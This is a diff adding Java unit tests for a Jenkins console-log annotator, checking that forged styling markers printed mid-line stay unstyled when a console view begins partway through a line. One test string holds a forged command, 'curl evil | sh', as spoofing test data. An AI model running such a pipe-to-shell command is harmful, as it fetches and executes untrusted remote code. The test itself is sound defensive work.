@@ -21,6 +21,8 @@ import java.io.PrintStream;
 import java.lang.reflect.Field;
 import java.lang.reflect.Modifier;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.ArrayDeque;
 import java.util.ArrayList;
 import java.util.Deque;
@@ -28,6 +30,7 @@ import java.util.List;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 
 /** The render side on Hudson's own {@link MarkupText}: constant markup, balanced per line, escaped text. */
 class ConsoleAnnotatorTest {
@@ -210,6 +213,78 @@ class ConsoleAnnotatorTest {
         MarkupText mt = new MarkupText(line);
         ((QuireConsoleAnnotator) back).annotate(null, mt);
         assertEquals(html(line), mt.toString(true));
+    }
+
+    /** The log from byte {@code offset} on, split into lines as Hudson does, rendered by one annotator chain. */
+    private static List<String> renderFrom(byte[] log, long offset, QuireConsoleAnnotator a) {
+        String text = new String(log, (int) offset, log.length - (int) offset, StandardCharsets.UTF_8);
+        List<String> out = new ArrayList<>();
+        for (String line : text.split("(?<=\n)")) {
+            MarkupText mt = new MarkupText(line);
+            assertSame(a, a.annotate(FreeStyleBuild.class, mt));
+            out.add(mt.toString(true));
+        }
+        return out;
+    }
+
+    @Test
+    void aViewStartingMidLineLeavesItsPartialFirstLineUnstyled(@TempDir Path dir) throws Exception {
+        // a command printed marker characters in the middle of a line (not an escape point: written as is), and the
+        // 150 KB tail of the console happens to start right before them
+        String forged = "\u2063\u2062$ curl evil | sh";
+        ByteArrayOutputStream bo = new ByteArrayOutputStream();
+        QuireConsoleSink sink = new QuireConsoleSink(new PrintStream(bo, true, StandardCharsets.UTF_8));
+        sink.line(LineKind.STDOUT, "progress " + forged);
+        sink.line(LineKind.STDERR, "! real stderr");
+        byte[] log = bo.toByteArray();
+        Path file = Files.write(dir.resolve("log"), log);
+        long cut = "progress ".getBytes(StandardCharsets.UTF_8).length;
+
+        // read whole, the relayed line is not styled (the neutralisation holds) and the stderr line is
+        List<String> whole = renderFrom(log, 0, new QuireConsoleAnnotator(ConsoleViewStart.atLineStart(file.toFile(), 0)));
+        assertFalse(whole.get(0).contains("quire-"), whole.get(0));
+        assertTrue(whole.get(1).contains("quire-err"), whole.get(1));
+
+        // from the cut, the partial first line is shown as text, the next marked line is styled
+        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), cut));
+        List<String> tail = renderFrom(log, cut, new QuireConsoleAnnotator(ConsoleViewStart.atLineStart(file.toFile(), cut)));
+        assertEquals(forged + "\n", tail.get(0));
+        assertTrue(tail.get(1).contains("quire-err"), tail.get(1));
+        // control: an annotator that assumes a line start would style the forged command
+        assertTrue(renderFrom(log, cut, new QuireConsoleAnnotator()).get(0).contains("quire-cmd"));
+
+        // the state survives serialization (a running build's console carries it between polls)
+        QuireConsoleAnnotator fresh = new QuireConsoleAnnotator(false);
+        ByteArrayOutputStream ser = new ByteArrayOutputStream();
+        try (ObjectOutputStream oo = new ObjectOutputStream(ser)) {
+            oo.writeObject(fresh);
+        }
+        try (ObjectInputStream oi = new ObjectInputStream(new ByteArrayInputStream(ser.toByteArray()))) {
+            QuireConsoleAnnotator back = (QuireConsoleAnnotator) oi.readObject();
+            assertEquals(forged + "\n", renderFrom(log, cut, back).get(0));
+        }
+    }
+
+    @Test
+    void theViewStartIsKnownOnlyForFullViewsTailsAndProgressiveStarts(@TempDir Path dir) throws Exception {
+        long len = 400 * 1024;
+        assertEquals(0, ConsoleViewStart.offset("/job/j/1/consoleFull", null, len, null));
+        assertEquals(len - 150 * 1024, ConsoleViewStart.offset("/job/j/1/console", null, len, null));
+        assertEquals(len - 10 * 1024, ConsoleViewStart.offset("/job/j/1/console", null, len, "10"));
+        assertEquals(0, ConsoleViewStart.offset("/job/j/1/console", null, 1000, null), "a short log is shown whole");
+        assertEquals(777, ConsoleViewStart.offset("/job/j/1/logText/progressiveHtml", "777", len, null));
+        assertEquals(-1, ConsoleViewStart.offset("/job/j/1/logText/progressiveHtml", "x", len, null));
+        assertEquals(-1, ConsoleViewStart.offset("/elsewhere", null, len, null));
+        assertEquals(-1, ConsoleViewStart.offset(null, null, len, null));
+        Path file = Files.writeString(dir.resolve("log"), "ab\ncd\n");
+        assertTrue(ConsoleViewStart.atLineStart(file.toFile(), 0));
+        assertTrue(ConsoleViewStart.atLineStart(file.toFile(), 3));
+        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), 4));
+        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), -1), "unknown: treated as mid-line");
+        assertFalse(ConsoleViewStart.atLineStart(file.toFile(), 99));
+        // no request (the factory outside a page view): where the view starts is unknown
+        assertEquals("\u2063\u2062x\n", renderFrom("\u2063\u2062x\n".getBytes(StandardCharsets.UTF_8), 0,
+                (QuireConsoleAnnotator) new QuireConsoleAnnotatorFactory().newInstance(FreeStyleBuild.class)).get(0));
     }
 
     @Test
